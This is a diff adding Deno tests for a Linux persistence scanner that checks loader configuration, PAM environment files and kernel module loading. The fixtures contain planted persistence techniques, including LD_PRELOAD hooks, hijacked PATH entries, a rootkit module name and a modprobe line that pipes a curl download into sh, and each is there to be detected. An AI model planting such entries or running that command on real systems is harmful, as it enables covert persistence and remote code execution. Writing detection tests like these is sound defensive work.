@@ -1,0 +1,127 @@
+/**
+ * persistence, the dynamic loader and the login environment (ld.so.conf, /etc/environment, pam_env,
+ * environment.d) and kernel module loading (modules-load.d, /etc/modules, modprobe.d).
+ */
+import assert from "node:assert/strict";
+import { persistence } from "../../src/scanners/persistence/index.ts";
+import { makeTree, runOne } from "../helpers.ts";
+import { fired, rootWith } from "./persistence_family_fixtures.ts";
+
+const isRoot = Deno.uid() === 0;
+
+Deno.test("ld.so.conf: directories in temporary, hidden, home or writable places fire; the stock ones are quiet", async () => {
+  using root = makeTree(rootWith([], {
+    "etc/ld.so.conf": "include ld.so.conf.d/*.conf\n",
+    "etc/ld.so.conf.d/libc.conf": "# libc default configuration\n/usr/local/lib\n",
+    "etc/ld.so.conf.d/x86_64-linux-gnu.conf":
+      "/usr/local/lib/x86_64-linux-gnu\n/lib/x86_64-linux-gnu\n/usr/lib/x86_64-linux-gnu\n",
+    "etc/ld.so.conf.d/zz-app.conf":
+      "/opt/app/lib, /dev/shm/.l:/usr/lib/.cache\ninclude /etc/ld.so.conf.more/*\n",
+    "etc/ld.so.conf.more/deep": "/home/bob/lib\n",
+    "etc/ld.so.conf.d/.hidden.conf": "/tmp/never-read\n",
+    "etc/ld.so.conf.d/off.conf.bak": "/tmp/never-read\n",
+    "usr/lib/.cache": { dir: true },
+    "opt/app/lib": { dir: true },
+  }));
+  if (isRoot) Deno.chownSync(`${root.path}/opt/app/lib`, 1000, 1000);
+  const r = await runOne(persistence, root.path);
+  assert.deepEqual(fired(r.findings), [
+    "high persistence.ld_so_conf.untrusted_dir /etc/ld.so.conf.d/zz-app.conf:1",
+    "high persistence.ld_so_conf.untrusted_dir /etc/ld.so.conf.d/zz-app.conf:1",
+    ...(isRoot ? ["high persistence.ld_so_conf.untrusted_dir /etc/ld.so.conf.d/zz-app.conf:1"] : []),
+    "high persistence.ld_so_conf.untrusted_dir /etc/ld.so.conf.more/deep:1",
+  ]);
+  assert.deepEqual(
+    r.findings.map((f) => [f.metadata.directory, f.metadata.location_kind]).sort(),
+    [
+      ["/dev/shm/.l", "temp"],
+      ["/home/bob/lib", "home"],
+      ...(isRoot ? [["/opt/app/lib", "user_writable"]] : []),
+      ["/usr/lib/.cache", "hidden"],
+    ],
+  );
+});
+
+Deno.test("environment: loader variables and PATH entries judged for the sessions they apply to", async () => {
+  using root = makeTree(rootWith([], {
+    "etc/environment": 'PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/tmp/.b"\nLANG=C.UTF-8\n',
+    "etc/security/pam_env.conf": [
+      "# comment",
+      "LD_AUDIT   DEFAULT=/home/bob/.a.so",
+      'PATH       DEFAULT="/var/tmp/bin:${PATH}" \\',
+      "           OVERRIDE=/usr/bin",
+      "DISPLAY    DEFAULT=${REMOTEHOST}:0.0 OVERRIDE=${DISPLAY}",
+    ].join("\n"),
+    "home/bob/.pam_environment": "PATH DEFAULT=/home/bob/bin:${PATH}\nLD_LIBRARY_PATH=:/usr/lib\n",
+    "home/alice/.pam_environment": "LD_PRELOAD DEFAULT=/home/bob/x.so\n",
+    "etc/environment.d/90-vendor.conf": "LD_PRELOAD=/opt/vendor/libhook.so\nGTK_MODULES=gail\n",
+    "opt/vendor/libhook.so": "",
+    "home/alice/.config/environment.d/10-own.conf": "PATH=/home/alice/.local/bin:$PATH\n",
+  }));
+  const r = await runOne(persistence, root.path);
+  assert.deepEqual(fired(r.findings), [
+    "high persistence.environment.loader_var /etc/security/pam_env.conf:2",
+    "high persistence.environment.loader_var /home/alice/.pam_environment:1",
+    "high persistence.environment.loader_var /home/bob/.pam_environment:2",
+    "high persistence.environment.path_hijack /etc/security/pam_env.conf:3",
+    "medium persistence.environment.loader_var /etc/environment.d/90-vendor.conf:1",
+  ]);
+  assert.ok(!r.findings.some((f) => f.metadata.entry === "/tmp/.b"), "after /usr/bin nothing is shadowed");
+});
+
+Deno.test("modules-load.d and /etc/modules: names no kernel ships or whose file no package installed", async () => {
+  const k = "lib/modules/6.1.0-18-amd64";
+  using root = makeTree(rootWith([`/${k}/kernel/drivers/net/tun.ko`], {
+    [`${k}/modules.dep`]: [
+      "kernel/drivers/net/tun.ko:",
+      "kernel/drivers/misc/vhost-helper.ko: kernel/drivers/net/tun.ko",
+      "updates/dkms/vboxdrv.ko:",
+    ].join("\n"),
+    [`${k}/modules.builtin`]: "kernel/fs/ext4/ext4.ko\n",
+    [`${k}/modules.alias`]: "alias fs-overlay overlay\nalias net-pf-* af_packet\n",
+    [`${k}/kernel/drivers/net/tun.ko`]: "",
+    [`${k}/kernel/drivers/misc/vhost-helper.ko`]: "",
+    "etc/modules-load.d/modules.conf": { symlink: "../modules" },
+    "etc/modules": "# /etc/modules\ntun\nvhost_helper\n",
+    "usr/lib/modules-load.d/vbox.conf": "vboxdrv\next4\n; comment\nfs-overlay\nnet-pf-17\n",
+    "etc/modules-load.d/zz.conf": "diamorphine\n",
+    "etc/modules-load.d/masked.conf": { symlink: "/dev/null" },
+    "usr/lib/modules-load.d/masked.conf": "never\n",
+  }));
+  const r = await runOne(persistence, root.path);
+  assert.deepEqual(fired(r.findings), [
+    "medium persistence.module_load.unknown /etc/modules-load.d/zz.conf:1",
+    "medium persistence.module_load.unowned /etc/modules-load.d/modules.conf:3",
+  ]);
+  assert.deepEqual(r.warnings, []);
+  using bare = makeTree(rootWith([], { "etc/modules-load.d/x.conf": "tun\n" }));
+  const none = await runOne(persistence, bare.path);
+  assert.deepEqual(none.warnings.map((w) => w.code), ["no_module_index"]);
+});
+
+Deno.test("modprobe.d: install/remove commands beyond the blacklist idiom and modprobe fire", async () => {
+  using root = makeTree(rootWith(["/usr/sbin/modprobe"], {
+    "usr/sbin/modprobe": { content: "", mode: 0o755 },
+    "usr/sbin/pcspkr-hook": { content: "", mode: 0o755 },
+    "etc/modprobe.d/cis.conf":
+      "install cramfs /bin/false\ninstall usb-storage /bin/true\nblacklist firewire-core\n",
+    "etc/modprobe.d/alsa.conf":
+      "install snd-pcsp /usr/sbin/modprobe --ignore-install snd-pcsp $CMDLINE_OPTS && \\\n  /usr/sbin/modprobe snd-x\n",
+    "etc/modprobe.d/iwlwifi.conf":
+      "remove iwlwifi (/sbin/lsmod | grep -o -e ^iwlmvm -e ^iwlwifi | xargs /sbin/rmmod) && /sbin/modprobe -r mac80211\n",
+    "etc/modprobe.d/pcspkr.conf":
+      "install pcspkr /usr/local/bin/beep-hook; /usr/sbin/modprobe --ignore-install pcspkr\n",
+    "etc/modprobe.d/x.conf": "remove dummy curl -s http://203.0.113.5/m | sh\nfrobnicate x\ninstall lonely\n",
+    "usr/lib/modprobe.d/planted.conf": "install bluetooth /usr/sbin/pcspkr-hook\n",
+    "lib/modprobe.d/never.conf.d": "install y /tmp/y\n",
+  }));
+  const r = await runOne(persistence, root.path);
+  assert.deepEqual(fired(r.findings), [
+    "high persistence.command.download_exec /etc/modprobe.d/x.conf:1",
+    "medium persistence.command.unowned_program /usr/lib/modprobe.d/planted.conf:1",
+    "medium persistence.modprobe.command /etc/modprobe.d/pcspkr.conf:1",
+    "medium persistence.modprobe.command /usr/lib/modprobe.d/planted.conf:1",
+  ]);
+  assert.deepEqual(r.warnings.map((w) => w.code), ["modprobe_malformed"]);
+  assert.match(r.warnings[0].detail!, /x\.conf: 2 line/);
+});
